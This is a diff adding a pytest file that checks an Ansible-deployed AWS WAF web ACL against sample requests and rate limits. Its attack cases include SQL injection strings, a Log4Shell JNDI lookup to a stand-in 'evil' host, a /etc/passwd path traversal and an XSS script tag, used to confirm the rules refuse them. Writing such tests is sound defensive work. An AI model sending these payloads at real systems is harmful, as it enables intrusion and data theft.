@@ -1,0 +1,93 @@
+"""What a web ACL says to a request."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+import yaml
+from jinja2 import Environment
+
+from lab import firewall
+from lab.firewall import Limit, Rates, Request
+from plugins.module_utils.project import ROOT
+
+AGENT = {"user-agent": "curl/8"}
+
+
+def role_rules(scope: str, **variables: Any) -> list[dict[str, Any]]:
+    """The rules of roles/firewall as the API has them."""
+    from ansible.module_utils.common.dict_transformations import snake_dict_to_camel_dict
+    from ansible_collections.community.aws.plugins.module_utils.wafv2 import wafv2_snake_dict_to_camel_dict
+
+    defaults = yaml.safe_load((ROOT / "roles/firewall/defaults/main.yml").read_text())
+    text = (ROOT / "roles/firewall/templates/rules.yml.j2").read_text()
+    rendered = Environment(trim_blocks=True).from_string(text).render({**defaults, **variables, "item": {"key": scope}})
+    return [
+        wafv2_snake_dict_to_camel_dict(snake_dict_to_camel_dict(rule, capitalize_first=True))
+        for rule in yaml.safe_load(rendered)
+    ]
+
+
+POLICY = firewall.policy(role_rules("cloudfront"))
+
+
+def ask(path: str = "/", query: str = "", body: bytes = b"", **headers: str) -> str | None:
+    """What the role's web ACL says to a request."""
+    return firewall.refusal(POLICY, Request("192.0.2.1", path, query, {**AGENT, **headers}, body))
+
+
+@pytest.mark.parametrize(
+    ("request_", "rule"),
+    [
+        ({"query": "q=1%27+OR+%271%27%3D%271"}, "SQLi_QUERYARGUMENTS"),
+        ({"query": "id=1%20UNION%20SELECT%20password%20FROM%20users"}, "SQLi_QUERYARGUMENTS"),
+        ({"query": "id=5;+drop+table+cars"}, "SQLi_QUERYARGUMENTS"),
+        ({"body": b'{"q": "x\' or 1=1 --"}'}, "SQLi_BODY"),
+        ({"cookie": "id=1 or 1=1"}, "SQLi_COOKIE"),
+        ({"path": "/api/cars/1%20or%201=1"}, "SQLi_URIPATH"),
+        ({"query": "x=${jndi:ldap://evil}"}, "Log4JRCE_QUERYSTRING"),
+        ({"query": "file=../../etc/passwd"}, "GenericLFI_QUERYARGUMENTS"),
+        ({"body": b"text=<script>alert(1)</script>"}, "CrossSiteScripting_BODY"),
+        ({"query": "x=" + "a" * 3000}, "SizeRestrictions_QUERYSTRING"),
+    ],
+)
+def test_attacks_are_refused(request_: dict[str, Any], rule: str) -> None:
+    assert ask(**request_) == rule
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        {"path": "/api/listings", "query": "search=red+or+blue&limit=10"},
+        {"query": "q=O%27Connor+and+sons"},
+        {"query": "sort=price;desc"},
+        {"body": b'{"text": "Select your car from our union of dealers; update soon (sleeps four)"}'},
+        # Counted, not refused: a picture is larger than 8 KiB.
+        {"body": b"x" * 10_000},
+    ],
+)
+def test_what_people_write_passes(request_: dict[str, Any]) -> None:
+    assert ask(**request_) is None
+
+
+def test_who_says_nothing_of_itself_is_refused() -> None:
+    assert firewall.refusal(POLICY, Request("192.0.2.1", "/", "", {})) == "NoUserAgent_HEADER"
+
+
+def test_what_is_counted_refuses_nothing() -> None:
+    rules = role_rules("cloudfront", firewall_counted_rules={"AWSManagedRulesSQLiRuleSet": ["SQLi_QUERYARGUMENTS"]})
+    request = Request("192.0.2.1", "/", "id=1+or+1=1", AGENT)
+    assert firewall.refusal(firewall.policy(rules), request) is None
+
+
+def test_the_rate_of_each_address_alone() -> None:
+    assert POLICY.limits == (Limit("rate", 2000, 300, forwarded=False),)
+    assert firewall.policy(role_rules("load_balancer")).limits == (Limit("rate", 2000, 300, forwarded=True),)
+    rates, limit = Rates(), Limit("rate", 100, 300, forwarded=False)
+    assert [rates.exceeded("acl", limit, "a", now=10.0 * number) for number in range(3)] == [False] * 3
+    assert not any(rates.exceeded("acl", limit, "a", now=30.0) for _ in range(97))
+    assert rates.exceeded("acl", limit, "a", now=31.0)
+    assert not rates.exceeded("acl", limit, "b", now=31.0)
+    # Five minutes later it is forgotten.
+    assert not rates.exceeded("acl", limit, "a", now=340.0)
